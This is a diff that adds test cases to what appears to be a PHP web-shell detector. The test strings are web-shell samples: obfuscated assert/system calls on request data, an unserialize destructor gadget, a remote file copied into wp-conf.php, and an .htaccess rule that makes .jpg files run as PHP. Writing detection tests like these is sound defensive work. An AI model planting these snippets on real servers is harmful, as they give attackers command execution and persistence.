@@ -466,3 +466,43 @@ def test_framework_router_with_callbacks():
 def test_plain_html_and_constant_eval():
     _clean("<html><body><?php echo htmlspecialchars($_GET['q']); ?></body></html>")
     _clean("<?php $v = '1.0'; eval('$x = 2;'); echo $x;")
+
+
+# -- more callback and object shapes --------------------------------------------------------------
+def test_array_walk_builds_the_name_from_key_and_value():
+    _shell("<?php function cb($v, $k) { $f = $k . $v; $f($_POST['x']); } $a = array('ass' => 'ert'); "
+           "array_walk($a, 'cb');", sink="assert")
+
+
+def test_output_buffer_callback_gets_the_echoed_request():
+    _shell("<?php $code = ''; function grab($buf, $phase) { global $code; $code = $buf; } ob_start('grab'); "
+           "echo $_REQUEST['p']; ob_end_flush(); assert($code);", sink="assert")
+
+
+def test_unserialize_runs_magic_methods_with_request_properties():
+    _shell("<?php class Job { public $cmd = 'true'; function __destruct() { system($this->cmd); } } "
+           "unserialize($_COOKIE['job']);", sink="system", source="$_COOKIE['job']")
+
+
+def test_sqlite_user_function_named_by_the_request():
+    _shell("<?php $db = new SQLite3(':memory:'); $db->createFunction('f', $_REQUEST['e']); "
+           "$db->query(\"SELECT f('\" . $_REQUEST['a'] . \"')\");", rule="php.request-function")
+
+
+def test_trait_method_reached_through_the_class():
+    _shell("<?php trait T { function run($f, $a) { $f($a); } } class A { use T; } $o = new A(); "
+           "$o->run('sys' . 'tem', $_GET['c']);", sink="system")
+
+
+def test_script_language_php_tag():
+    _shell('<script language="php">@array_map("ass" . "ert", array($_POST["k"]));</script>', sink="assert")
+
+
+def test_remote_script_download_and_htaccess_drop():
+    _shell("<?php copy('http://198.51.100.7/x.txt', 'wp-conf.php');", rule="php.remote-drop")
+    _shell("<?php file_put_contents('.htaccess', 'AddType application/x-httpd-php .jpg');", rule="php.htaccess-drop")
+
+
+def test_register_globals_era_variables_are_a_weak_source():
+    hs = _scan("<?php if ($cmd) { system($cmd); }")
+    assert any(h.source.startswith("$cmd") for h in hs) and not webshell.is_shell(hs)
